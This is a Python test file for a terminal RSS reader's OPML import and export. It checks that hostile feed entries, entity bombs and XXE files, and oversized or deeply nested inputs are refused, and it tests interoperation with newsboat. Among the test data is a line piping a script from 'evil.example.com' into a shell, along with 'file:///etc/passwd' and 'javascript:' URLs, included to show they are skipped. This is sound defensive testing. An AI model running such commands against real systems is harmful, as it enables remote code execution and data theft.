"""OPML import/export: structure, hostile files, limits, and newsboat interop."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from briefterm import xmlsafe
from briefterm.config import FeedConfig
from briefterm.opml import MAX_DEPTH, MAX_FEEDS, OpmlError, parse_opml, render_opml
from tests import support
from tests.support.scaling import LINEAR_FOR_4X, growth

FIXTURES = support.DATA / "opml"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def test_folders_become_sections_top_and_nearest_folder() -> None:
    result = parse_opml(fixture("simple.opml"))
    assert result.title == "My feeds"
    assert result.skipped == []
    assert [(f.url, f.name, f.section) for f in result.feeds] == [
        ("https://example.com/feed.xml", "Example Top", ""),
        ("https://hardware.example.org/rss", "Hardware & Chips", "Tech"),
        ("http://longreads.example.net/atom.xml", "Long reads", "Tech / Deep Dives"),
        ("https://news.example.com/zh/rss", "科技新闻", "新闻"),
    ]


def test_nested_folders_keep_the_top_and_the_nearest() -> None:
    from briefterm.opml import folder_section

    assert folder_section(()) == ""
    assert folder_section(("Tech",)) == "Tech"
    assert folder_section(("Tech", "Sub", "Deep")) == "Tech / Deep"
    assert folder_section(("Tech", "", "Deep")) == "Tech / Deep"


def test_hostile_schemes_are_skipped_with_reasons() -> None:
    result = parse_opml(fixture("hostile_schemes.opml"))
    assert [f.url for f in result.feeds] == [
        "https://ok.example.com/feed",
        "https://esc.example.com/feed",
    ]
    # The 8-bit CSI in the title is gone, the text around it kept.
    assert result.feeds[1].name == "escred"
    reasons = dict(result.skipped)
    assert "briefterm never runs commands" in reasons["|curl https://evil.example.com/x | sh"]
    assert "never runs commands" in reasons["exec:~/bin/make-feed.sh"]
    assert "never runs commands" in reasons["filter:~/bin/f.py:https://example.com/f"]
    assert "query feed" in reasons['query:Unread:unread = "yes"']
    assert "local file URL" in reasons["file:///etc/passwd"]
    assert "javascript:" in reasons["javascript:alert(1)"]
    assert reasons["ftp://ftp.example.com/feed.xml"] == "not an http(s) URL (ftp:)"
    assert ("https://ok.example.com/feed", "duplicate of an earlier outline in this file") in (
        result.skipped
    )
    assert len(result.skipped) == 8


@pytest.mark.parametrize("name", ["entity_bomb.opml", "xxe.opml"])
def test_entity_declarations_are_refused_before_parsing(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An entity bomb costs nothing if no parser ever sees it.
    def boom(*args: object, **kwargs: object) -> None:
        raise AssertionError("nothing may parse an entity-declaring document")

    monkeypatch.setattr(xmlsafe, "fromstring", boom)
    with pytest.raises(OpmlError, match="declares XML entities"):
        parse_opml(fixture(name))


def test_entity_declaration_in_utf16_is_refused() -> None:
    data = fixture("xxe.opml").decode().replace('<?xml version="1.0"?>', "")
    with pytest.raises(OpmlError, match="declares XML entities"):
        parse_opml("\ufeff".encode("utf-16-le") + data.encode("utf-16-le"))


def test_deep_nesting_is_cut_at_the_limit() -> None:
    result = parse_opml(fixture("deep.opml"))
    assert [f.url for f in result.feeds] == ["https://shallow.example.com/feed"]
    assert result.skipped == [
        (f"level {MAX_DEPTH}", f"folder nested more than {MAX_DEPTH} levels deep; 1 feed in it")
    ]


def _outlines(count: int) -> bytes:
    outlines = "".join(
        f'<outline type="rss" text="feed {i}" xmlUrl="https://f{i}.example.com/rss"/>'
        for i in range(count)
    )
    return f'<opml version="2.0"><head/><body>{outlines}</body></opml>'.encode()


def test_ten_thousand_outlines_stop_at_the_feed_limit() -> None:
    result = parse_opml(_outlines(10_000))
    assert len(result.feeds) == MAX_FEEDS
    assert result.feeds[-1].url == f"https://f{MAX_FEEDS - 1}.example.com/rss"
    assert result.skipped == [("5000 more feeds", f"one file imports at most {MAX_FEEDS} feeds")]
    # Four times the outlines may cost about four times as much, not sixteen
    # (a duplicate check or a limit that rescans what came before).
    ratio = growth(parse_opml, _outlines(2_500), _outlines(10_000))
    assert ratio < LINEAR_FOR_4X, f"4x the outlines took {ratio:.1f}x the time"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"not xml at all", "not valid XML"),
        (b"<rss><channel/></rss>", "not an OPML file"),
        (b"<opml><head/></opml>", "has no <body>"),
        (b"<opml><body><outline", "not valid XML"),
    ],
)
def test_broken_files_raise_clear_errors(data: bytes, message: str) -> None:
    with pytest.raises(OpmlError, match=message):
        parse_opml(data)


def test_render_escapes_and_round_trips() -> None:
    feeds = [
        FeedConfig("https://example.com/a?x=1&y=2", name='A & "B" <c>', section="Tech & Co"),
        FeedConfig("https://example.com/top"),
        FeedConfig("https://example.org/b", name="B", section="Tech & Co"),
        FeedConfig("https://example.net/zh", name="科技", section="新闻"),
        FeedConfig("https://example.net/ctl", name="bad\x1b[31m\x07name", section=""),
    ]
    text = render_opml(
        feeds, title="Mine & yours", site_links={"https://example.org/b": "https://example.org/"}
    )
    assert "x=1&amp;y=2" in text
    assert "&lt;c&gt;" in text and "\x1b" not in text and "\x07" not in text
    assert 'htmlUrl="https://example.org/"' in text
    assert text.count('text="Tech &amp; Co"') == 1  # one folder per section
    back = parse_opml(text.encode("utf-8"))
    assert back.title == "Mine & yours"
    assert back.skipped == []
    by_url = {f.url: f for f in back.feeds}
    assert by_url["https://example.com/a?x=1&y=2"] == feeds[0]
    assert by_url["https://example.com/top"].name == "https://example.com/top"
    assert by_url["https://example.org/b"].section == "Tech & Co"
    assert by_url["https://example.net/zh"] == feeds[3]
    assert by_url["https://example.net/ctl"].name == "badname"


# -- newsboat interop ------------------------------------------------------------------

NEWSBOAT = shutil.which("newsboat")
needs_newsboat = pytest.mark.skipif(
    NEWSBOAT is None, reason="newsboat is not installed (apt-get install newsboat); CI installs it"
)


def run_newsboat(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Run newsboat with every file it could touch inside ``tmp_path``."""
    home = tmp_path / "nb-home"
    home.mkdir(exist_ok=True)
    (tmp_path / "nb-config").touch()
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "XDG_DATA_HOME": str(home / ".local" / "share"),
        "XDG_CACHE_HOME": str(home / ".cache"),
        "LANG": "C.UTF-8",
        "TERM": "dumb",
    }
    return subprocess.run(
        [
            NEWSBOAT or "newsboat",
            "-c",
            str(tmp_path / "cache.db"),
            "-C",
            str(tmp_path / "nb-config"),
            *args,
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
        stdin=subprocess.DEVNULL,
    )


@needs_newsboat
def test_import_newsboat_export(tmp_path: Path) -> None:
    urls = tmp_path / "urls"
    urls.write_text(
        'https://example.com/feed.xml "Tech" "~Example Feed"\n'
        'http://example.org/atom.xml "News"\n'
        '"|cat /etc/hostname" "Local"\n'
        "https://plain.example.net/rss?a=1&b=2\n",
        encoding="utf-8",
    )
    exported = run_newsboat(tmp_path, "-u", str(urls), "-e").stdout
    result = parse_opml(exported.encode("utf-8"))
    assert [(f.url, f.name) for f in result.feeds] == [
        ("https://example.com/feed.xml", "Example Feed"),
        ("http://example.org/atom.xml", ""),
        ("https://plain.example.net/rss?a=1&b=2", ""),
    ]
    assert result.skipped == [
        (
            "|cat /etc/hostname",
            "newsboat command feed (|command) not imported: briefterm never runs commands",
        )
    ]


@needs_newsboat
def test_newsboat_imports_our_export(tmp_path: Path) -> None:
    feeds = [
        FeedConfig("https://a.example.com/feed?x=1&y=2", name="A & B", section="Tech"),
        FeedConfig("https://top.example.com/rss", name="Top"),
        FeedConfig("https://zh.example.com/rss", name="科技", section="新闻"),
    ]
    opml_file = tmp_path / "ours.opml"
    opml_file.write_text(render_opml(feeds), encoding="utf-8")
    urls = tmp_path / "urls"
    urls.touch()
    run_newsboat(tmp_path, "-i", str(opml_file), "-u", str(urls))
    lines = urls.read_text(encoding="utf-8").splitlines()
    # newsboat turns our section folders into tags.
    assert lines == [
        'https://a.example.com/feed?x=1&y=2 "Tech"',
        "https://top.example.com/rss",
        'https://zh.example.com/rss "新闻"',
    ]


def test_json_feeds_import_and_export_like_any_feed() -> None:
    # Readers label a JSON Feed outline type="rss" (NetNewsWire) or "json";
    # briefterm imports by xmlUrl whatever the type, and exports type="rss",
    # which readers ignore in favour of the document they fetch.
    result = parse_opml(fixture("json_feeds.opml"))
    assert result.skipped == []
    assert [(f.url, f.section) for f in result.feeds] == [
        ("https://quayside.example.net/feeds/json", "Linkblogs"),
        ("https://lanternroom.example.ca/feed/json/", "Linkblogs"),
        ("https://tideline.example.org/show/feed.xml", ""),
    ]
    again = parse_opml(render_opml(result.feeds).encode())
    assert [(f.url, f.name, f.section) for f in again.feeds] == [
        (f.url, f.name, f.section) for f in result.feeds
    ]


def test_read_opml_stops_at_the_limit() -> None:
    import io

    from briefterm.opml import MAX_BYTES, read_opml

    class Endless:
        """/dev/zero: reading it whole would never end."""

        def __init__(self) -> None:
            self.served = 0

        def read(self, size: int = -1, /) -> bytes:
            self.served += size
            return b"\0" * size

    endless = Endless()
    with pytest.raises(OpmlError, match="larger than 32 MiB"):
        read_opml(endless)
    assert endless.served == MAX_BYTES + 1  # not a byte more than it needs
    assert read_opml(io.BytesIO(fixture("simple.opml"))) == fixture("simple.opml")


def _opml_body(body: str) -> bytes:
    return f'<?xml version="1.0"?><opml version="2.0"><body>{body}</body></opml>'.encode()


def test_parser_limits_are_said_without_libxml_jargon() -> None:
    # The fault run: "Excessive depth in document: 256, use XML_PARSE_HUGE option".
    deep = _opml_body('<outline text="f">' * 10_000 + "</outline>" * 10_000)
    with pytest.raises(OpmlError, match="more than 256 levels deep") as deep_err:
        parse_opml(deep)
    huge = _opml_body(f'<outline text="{"n" * 10_000_001}" xmlUrl="https://x.example/f"/>')
    with pytest.raises(OpmlError, match="larger than the XML parser reads") as huge_err:
        parse_opml(huge)
    for exc in (deep_err.value, huge_err.value):
        assert "XML_PARSE_HUGE" not in str(exc) and "\n" not in str(exc)
